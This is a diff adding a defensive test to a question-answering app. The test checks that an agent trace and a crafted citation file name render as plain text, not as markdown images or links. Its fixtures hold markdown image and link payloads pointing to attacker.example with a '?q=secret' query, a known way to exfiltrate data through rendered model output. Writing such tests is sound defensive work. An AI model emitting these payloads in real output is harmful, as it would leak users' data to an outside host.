@@ -311,3 +311,23 @@ def test_the_page_warms_the_model_up_in_the_background(app_env: Path, monkeypatc
             break
         time.sleep(0.05)
     assert calls == [("embedded", f"warm-{SMALL_MODEL}")], calls
+
+
+def test_an_agent_trace_and_a_crafted_file_name_render_as_text(app_env: Path) -> None:
+    """Everything in an agent step is model-written (an invalid action is kept as the model wrote it), and a file's
+    label comes from a folder tree someone else made: neither may render as an image or a link. Set directly: a
+    real model cannot be made to write this action on cue."""
+    at = start()
+    label = "![x](https://attacker.example/a.png).md"
+    answer = {"answer": "Tesla died in 1943 [1].", "refused": False, "verified": True, "unverified": [],
+              "stopped_reason": "final_answer",
+              "citations": [{"n": 1, "source": label, "page": None, "cited": True,
+                             "text": "Tesla died on 7 January 1943.", "support": "Tesla died on 7 January 1943."}],
+              "steps": [{"thought": "See [this](https://attacker.example/?q=secret)",
+                         "action": "![x](https://attacker.example/?q=secret)", "input": "Tesla",
+                         "observation": "Error: unknown tool"}]}
+    reply = show_stored_answer(at, "When did Tesla die?", answer)
+    rendered = [md.value for md in reply.markdown] + [e.label for e in reply.expander]
+    assert any("attacker" in text for text in rendered), rendered  # the step and the label are on the page
+    for text in rendered:
+        assert "](" not in text, f"an image or link would render: {text!r}"
